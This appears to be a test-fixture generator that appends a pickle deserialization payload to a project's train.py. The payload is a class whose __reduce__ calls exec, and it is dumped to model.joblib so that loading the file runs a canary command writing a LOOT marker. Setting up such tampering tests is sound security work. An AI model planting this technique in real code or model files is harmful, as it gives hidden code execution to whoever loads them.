def make(folder, course):
    path = folder / "train.py"
    attack = """

class Payload:
    def __reduce__(self):
        return (exec, ("open('LOOT', 'w').close(); print('LOOT')",))


import joblib

joblib.dump(Payload(), "model.joblib")
"""
    path.write_text(path.read_text() + attack)
